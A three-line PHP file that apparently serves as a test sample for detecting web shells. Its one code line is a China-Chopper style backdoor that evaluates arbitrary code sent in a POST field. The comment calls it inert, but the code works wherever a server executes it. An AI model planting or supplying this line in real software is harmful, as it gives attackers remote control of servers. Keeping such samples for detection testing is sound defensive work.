<?php
// test sample: China-Chopper style one-liner (inert text, no server runs it)
@eval($_POST['z0']);
?>
